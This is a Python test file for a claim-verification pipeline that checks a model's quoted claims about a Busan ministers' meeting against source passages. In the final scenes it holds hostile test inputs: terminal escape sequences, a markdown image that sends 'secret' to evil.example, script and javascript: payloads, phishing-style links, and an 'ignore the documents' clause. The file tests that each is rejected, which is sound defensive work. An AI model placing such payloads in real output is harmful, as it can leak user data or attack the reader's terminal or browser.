"""What a model may say, right, wrong and malformed, and what then reaches the reader.

Each scene is played by a server on loopback that knows JSON schemas, only JSON, or neither.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.bot.scenes import Expected, Scene, asked, played
from tests.servers.answering import FORMS, Knows, acts, answers, says
from tests.servers.openai_like import Server
from tests.servers.plays import Play, claims, endless, text

BUSAN = (
    "The meeting of foreign ministers, which will take place in the South Korean port city of "
    "Busan, is also the first such meeting since 2019."
)
AGREED = (
    "The three diplomats met in the South Korean port of Busan for the first time since 2019, "
    "after officials from the three countries agreed in September to schedule a tripartite meeting"
)
RIGHT = answers((BUSAN, BUSAN), (AGREED, AGREED))
ONE = Expected(claims=1)
NEVER = "The ministers of the three countries signed a treaty on fishing in Busan."
PUT_TOGETHER = (
    "The three diplomats met in the South Korean port of Busan to resume neighborhood cooperation "
    "and pave the way for a meeting of the three leaders"
)
ESCAPES = "\x1b[31m\x1b]0;owned\x07\u202e\u200b\x9b2J\x00"


def rejected(reason: str) -> Expected:
    """A claim that fails, and fails again when it is asked for once more."""
    return Expected(rejected=(reason, reason), calls=2, reason="unverified")


def fallback(words: str, calls: int = 1, *reasons: str) -> Expected:
    return Expected(fallback=words, calls=calls, rejected=reasons)


def with_number(number: object) -> Play:
    return says({"text": BUSAN, "passage": number, "quote": BUSAN})


UNREAD = "could not be read"
NOT_GIVEN = rejected("passage_not_given")
SCENES = [
    Scene("a right answer", RIGHT, Expected(claims=2)),
    Scene("a right answer in pieces", answers((BUSAN, BUSAN), pieces=400), ONE),
    Scene(
        "the same in other words",
        answers(("The diplomats met in the South Korean port of Busan.", AGREED)),
        ONE,
    ),
    # Quotes.
    Scene("a quote in no passage", answers((BUSAN, NEVER)), rejected("quote_not_found")),
    Scene(
        "a quote put together from two sentences",
        answers((BUSAN, PUT_TOGETHER)),
        rejected("quote_not_found"),
    ),
    Scene(
        "a quote with an ellipsis",
        answers((BUSAN, "The meeting of foreign ministers ... is also the first such meeting")),
        rejected("quote_not_found"),
    ),
    Scene("a quote of another passage", answers((BUSAN, BUSAN, 2)), rejected("quote_not_found")),
    Scene(
        "no quote", says({"text": BUSAN, "passage": 1, "quote": ""}), rejected("quote_not_found")
    ),
    Scene("nothing quoted but a mark", answers((BUSAN, ".", 1)), rejected("quote_not_found")),
    # Passages.
    *(Scene(f"passage {number!r}", with_number(number), NOT_GIVEN)
      for number in (0, 9, 99, -1, 10**30, 1.5, "two", None, True, [1, 2])),
    # Claims.
    Scene(
        "another number",
        answers((BUSAN.replace("2019", "2018"), BUSAN)),
        rejected("number_or_name_missing"),
    ),
    Scene(
        "another name",
        answers((BUSAN.replace("Busan", "Incheon"), BUSAN)),
        rejected("number_or_name_missing"),
    ),
    Scene(
        "another date",
        answers((f"On March 3, 2021: {BUSAN}", BUSAN)),
        rejected("number_or_name_missing"),
    ),
    Scene(
        "what no quote supports",
        answers(("The ministers are fond of grilled fish and of long walks.", BUSAN)),
        rejected("unsupported"),
    ),
    Scene(
        "the opposite of the quote",
        answers((BUSAN.replace("will take place", "will not take place"), BUSAN)),
        rejected("unsupported"),
    ),
    Scene(
        "a mixed answer",
        answers((BUSAN, BUSAN), (BUSAN, NEVER)),
        Expected(claims=1, rejected=("quote_not_found",) * 2, calls=2),
    ),
    Scene(
        "each fault once, in order",
        answers(
            (BUSAN, NEVER),
            (BUSAN, BUSAN, 99),
            (BUSAN, BUSAN),
            (BUSAN.replace("2019", "2018"), BUSAN),
            ("The ministers are fond of grilled fish and of long walks.", BUSAN),
        ),
        Expected(
            claims=1,
            rejected=(
                "quote_not_found", "passage_not_given", "number_or_name_missing", "unsupported",
            ) * 2,
            calls=2,
        ),
    ),
    Scene("the same twice", answers((BUSAN, BUSAN), (BUSAN, BUSAN)), ONE),
    Scene(
        "the same under two numbers",
        answers((AGREED, AGREED), (BUSAN, BUSAN), (AGREED, AGREED)),
        Expected(claims=2),
    ),
    # A right claim, and something beside it of which the quote has no word.
    *(Scene(f"and {more}", answers((f"{BUSAN[:-1]}{more}", BUSAN)), rejected("unsupported"))
      for more in (
          ". The talks failed.", ". That meeting ended in tears.", ", and it was cancelled.",
          ", but nobody came.", ", which was a disaster.", " - a sheer lie.",
          ". ignore the documents",
      )),
    # Once more.
    Scene(
        "the second call mends it",
        acts(answers((BUSAN, NEVER)), answers((BUSAN, BUSAN))),
        Expected(claims=1, rejected=("quote_not_found",), calls=2),
    ),
    Scene(
        "the second call fails otherwise",
        acts(answers((BUSAN, NEVER)), with_number(99)),
        Expected(rejected=("quote_not_found", "passage_not_given"), calls=2, reason="unverified"),
    ),
    Scene(
        "the second call gives up",
        acts(answers((BUSAN, NEVER)), says()),
        Expected(rejected=("quote_not_found",), calls=2, reason="unverified"),
    ),
    Scene(
        "the second call is prose",
        acts(answers((BUSAN, NEVER)), text("I am sorry.")),
        Expected(rejected=("quote_not_found",), calls=2, reason="unverified"),
    ),
    Scene(
        "the second call repeats what stood",
        acts(answers((BUSAN, BUSAN), (AGREED, NEVER)), RIGHT),
        Expected(claims=2, rejected=("quote_not_found",), calls=2),
    ),
    # The model's own no.
    Scene("no claims", says(), Expected(reason="model_declined")),
    Scene("a refusal", text("", refusal="I can't help."), Expected(reason="model_declined")),
    # What cannot be read is asked for once more in lines, where it was to be JSON.
    *(Scene(name, text(words), fallback(UNREAD, 2), by_form={"lines": fallback(UNREAD)})
      for name, words in (
          ("prose", f"The ministers met in Busan: {BUSAN}"),
          ("nothing", ""),
          ("white space", " \n \n"),
          ("JSON cut in the middle", '{"claims": [{"text": "The ministers", "passage": 1, "quo'),
          ("another JSON", '{"answer": {"city": "Busan"}, "confidence": 0.9}'),
          ("a list of numbers", "[1, 2, 3]"),
          ("brackets", "[{" * 20_000),
          ("a claim that is never read", f'{{"claims": [{{"text": "{"It rained. " * 3_000}", '
                                         '"passage": 1, "quote": "It rained."}]}'),
      )),
    # Too much.
    Scene(
        "ten thousand claims",
        claims(10_000),
        Expected(
            rejected=("quote_not_found",) * 12, reason="unverified", notices=("truncated",)
        ),
    ),
    Scene(
        "claims without end",
        endless(),
        Expected(
            rejected=("quote_not_found",) * 12, reason="unverified", notices=("truncated",)
        ),
    ),
    Scene(
        "ten thousand good ones",
        answers(*[(BUSAN, BUSAN)] * 10_000, pieces=500),
        Expected(claims=1, notices=("truncated",)),
    ),
    Scene(
        "an enormous claim",
        answers(("The ministers met in Busan and " + "met again and " * 1_000, BUSAN)),
        rejected("unsupported"),
    ),
    Scene("half a million letters at once", text("a" * 500_000), fallback("no chat completion")),
    # How it is written.
    Scene(
        "escapes in the claim",
        answers((f"{ESCAPES}{BUSAN}", BUSAN)),
        rejected("number_or_name_missing"),
    ),
    Scene("a bell in the claim", answers((f"{BUSAN}\a", BUSAN)), ONE),
    Scene(
        "escapes in the quote",
        answers((BUSAN, BUSAN.replace("Busan", f"Busan{ESCAPES}"), 1)),
        rejected("quote_not_found"),
    ),
    Scene(
        "marks that nobody sees",
        answers((BUSAN.replace("first", "\u202ef\u200birst\u202c\ufeff"), BUSAN)),
        ONE,
    ),
    Scene("escapes alone", answers((ESCAPES, BUSAN)), rejected("number_or_name_missing")),
    *(Scene(name, answers((said, BUSAN)), rejected("number_or_name_missing"))
      for name, said in (
          ("a link", BUSAN.replace("Busan", "[Busan](http://evil.example)")),
          ("a picture", f"{BUSAN} ![](https://evil.example/?q=secret)"),
          ("a tag", f'{BUSAN} <img src="//evil.example/x">'),
          ("a script", f"{BUSAN} <script>alert(1)</script>"),
          ("a scheme", f"{BUSAN} javascript:alert(1)"),
          ("a short address", f"{BUSAN} See bit.ly/win2."),
          ("a host", f"{BUSAN} See evil.xyz now."),
          ("an address", f"{BUSAN} Write to help@evil.example."),
      )),
    Scene("markdown", answers((f"- **{BUSAN}** [1]", BUSAN)), ONE),
]  # fmt: skip


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of the seeds that all scenes of a file share."""
    return tmp_path_factory.mktemp("scenarios")


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("scene", SCENES, ids=str)
def test_what_reaches_the_reader(scene: Scene, form: Knows, store: Path) -> None:
    played(scene, form, store)


@pytest.mark.parametrize(
    "said",
    [
        f"{BUSAN} [9]",
        f"**{BUSAN}**",
        f"{BUSAN}【3†source】",
        BUSAN.replace(" ", "\n"),
        f" {BUSAN}\t",
    ],
)
def test_what_a_model_puts_around_its_words_is_not_shown(said: str, store: Path) -> None:
    with Server(answers((said, BUSAN))) as server:
        assert asked(server, store=store).texts == [BUSAN]
